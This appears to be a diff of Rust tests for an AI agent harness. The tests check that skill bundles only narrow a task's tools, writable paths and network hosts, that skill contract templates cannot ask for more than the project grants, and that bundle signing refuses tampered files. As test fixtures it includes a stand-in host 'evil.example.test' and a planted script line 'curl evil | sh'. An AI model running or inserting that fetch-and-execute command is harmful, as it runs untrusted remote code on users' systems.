@@ -114,7 +114,7 @@ fn a_skill_only_narrows_the_task_and_lists_what_it_asked_beyond() {
     let b = read_bundle(&dir).unwrap();
     let mut c = loop_protocol::Contract::from_flags("fix it", &["true".into()], &[]).unwrap();
     c.network_allow = vec!["docs.example.test".into(), "api.example.test".into()];
-    let r = narrow(&b, Some("k".into()), &mut c, &[]);
+    let r = narrow(&b, Some("k".into()), &mut c, &TaskGrants::default());
     // The task keeps only the hosts the skill needs and it had.
     assert_eq!(c.network_allow, vec!["docs.example.test".to_string()]);
     assert_eq!(
@@ -134,7 +134,7 @@ fn a_skill_only_narrows_the_task_and_lists_what_it_asked_beyond() {
     plain.capabilities.network = None;
     let mut c2 = loop_protocol::Contract::from_flags("fix it", &["true".into()], &[]).unwrap();
     c2.network_allow = vec!["api.example.test".into()];
-    narrow(&plain, None, &mut c2, &[]);
+    narrow(&plain, None, &mut c2, &TaskGrants::default());
     assert_eq!(c2.network_allow, vec!["api.example.test".to_string()]);
     let _ = std::fs::remove_dir_all(dir.parent().unwrap());
 }
@@ -198,7 +198,11 @@ fn a_skills_hosts_narrow_what_commands_reach_too() {
     let mut c = loop_protocol::Contract::from_flags("fix it", &["true".into()], &[]).unwrap();
     // The task's commands may reach the mirror (the Loopfile's list), its
     // checks nothing: the skill keeps the mirror, drops the docs host.
-    let r = narrow(&b, None, &mut c, &["mirror.example.test".to_string()]);
+    let grants = TaskGrants {
+        command_hosts: vec!["mirror.example.test".to_string()],
+        ..TaskGrants::default()
+    };
+    let r = narrow(&b, None, &mut c, &grants);
     assert_eq!(
         r.capabilities.network.as_deref(),
         Some(&["mirror.example.test".to_string()][..])
@@ -288,5 +292,133 @@ fn an_executable_bit_is_signed_and_a_changed_one_is_refused_naming_the_file() {
     )
     .unwrap();
     assert!(verify(&dir, &trusted).is_ok());
+    let _ = std::fs::remove_dir_all(dir.parent().unwrap());
+}
+
+#[test]
+fn what_is_in_force_is_what_the_task_has_of_what_the_skill_asked() {
+    let dir = bundle_dir("in-force");
+    let mut b = read_bundle(&dir).unwrap();
+    b.capabilities.tools = Some(
+        [
+            "read_file",
+            "browser",
+            "delegate",
+            "mcp__docs__search",
+            "mcp__gh__issues",
+            "finish",
+        ]
+        .map(String::from)
+        .to_vec(),
+    );
+    b.capabilities.writable = Some(
+        ["src", ".loop", "secrets", "tests"]
+            .map(String::from)
+            .to_vec(),
+    );
+    let mut c = loop_protocol::Contract::from_flags("fix it", &["true".into()], &[]).unwrap();
+    c.protected.push("tests/conftest.py".into());
+    let grants = TaskGrants {
+        mcp_servers: vec!["docs".into()],
+        ..TaskGrants::default()
+    };
+    let r = narrow(&b, None, &mut c, &grants);
+    assert_eq!(
+        r.capabilities.tools.as_deref().unwrap(),
+        ["read_file", "mcp__docs__search", "finish"]
+    );
+    // A path partly protected stays (its protected file is still refused
+    // at the write); one wholly protected is not in force.
+    assert_eq!(
+        r.capabilities.writable.as_deref().unwrap(),
+        ["src", "tests"]
+    );
+    for said in [
+        "tool `browser`: the task is not offered it",
+        "tool `delegate`: the task is not offered it",
+        "tool `mcp__gh__issues`: the task is not offered it",
+        "writable path `.loop`: protected in this task",
+        "writable path `secrets`: protected in this task",
+    ] {
+        assert!(
+            r.dropped.iter().any(|d| d == said),
+            "{said}: {:?}",
+            r.dropped
+        );
+    }
+    // Given what it asks for, it is in force.
+    c.browser = true;
+    c.limits.max_children = 1;
+    c.limits.max_depth = 1;
+    let r = narrow(&b, None, &mut c, &grants);
+    assert!(
+        r.capabilities
+            .tools
+            .unwrap()
+            .contains(&"browser".to_string())
+    );
+    let _ = std::fs::remove_dir_all(dir.parent().unwrap());
+}
+
+#[test]
+fn a_skills_contract_template_gives_no_more_than_the_project_gives_a_task() {
+    let loopfile = crate::loopfile::Loopfile::default();
+    let honest = loop_protocol::Contract::from_yaml(
+        "instruction: tidy\ncriteria:\n  - id: tidy\n    text: tidy\n    checks: [{run: \"grep -q x notes.md\"}]\nlimits: { max_steps: 10 }\n",
+        "contract.yaml",
+    )
+    .unwrap();
+    assert!(template_within("tidy", &honest, &loopfile).is_ok());
+    for (extra, named) in [
+        ("unprotect: [\".env*\"]\n", "`unprotect`"),
+        ("allow_check_changes: [tests/**]\n", "`allow_check_changes`"),
+        ("network_allow: [evil.example.test]\n", "`network_allow`"),
+        ("browser: true\n", "`browser`"),
+        (
+            "limits: { max_steps: 500 }\n",
+            "`limits.max_steps` 500 (a task gets 30)",
+        ),
+        (
+            "limits: { max_children: 3, max_depth: 1 }\n",
+            "`limits.max_children` 3",
+        ),
+    ] {
+        let yaml = format!(
+            "instruction: tidy\ncriteria:\n  - id: tidy\n    text: tidy\n    checks: [{{run: \"grep -q x notes.md\"}}]\n{extra}"
+        );
+        let t = loop_protocol::Contract::from_yaml(&yaml, "contract.yaml").unwrap();
+        let e = template_within("tidy", &t, &loopfile)
+            .unwrap_err()
+            .to_string();
+        assert!(
+            e.contains(named) && e.contains("skill tidy"),
+            "{extra}: {e}"
+        );
+    }
+    // What the Loopfile grants every task, a template may ask for too.
+    let granting = crate::loopfile::Loopfile::parse("browser: true\n", "Loopfile.yaml").unwrap();
+    let t = loop_protocol::Contract::from_yaml(
+        "instruction: look\ncriteria:\n  - id: page\n    text: page\n    checks: [{run: \"grep -q x index.html\"}]\nbrowser: true\n",
+        "contract.yaml",
+    )
+    .unwrap();
+    assert!(template_within("look", &t, &granting).is_ok());
+}
+
+#[test]
+fn a_file_whose_name_is_not_utf8_is_refused_not_left_out() {
+    use std::os::unix::ffi::OsStrExt;
+    let dir = bundle_dir("raw-name");
+    let key = KeyPair::from_seed([10u8; 32]);
+    sign_with(&dir, &key).unwrap();
+    assert!(verify(&dir, &[key.public()]).is_ok());
+    let odd = dir
+        .join("resources")
+        .join(std::ffi::OsStr::from_bytes(b"run\xff.sh"));
+    std::fs::write(&odd, "curl evil | sh\n").unwrap();
+    let e = verify(&dir, &[key.public()]).unwrap_err().to_string();
+    assert!(e.contains("not UTF-8") && e.contains("resources"), "{e}");
+    std::fs::remove_file(&odd).unwrap();
+    assert!(verify(&dir, &[key.public()]).is_ok());
     let _ = std::fs::remove_dir_all(dir.parent().unwrap());
 }
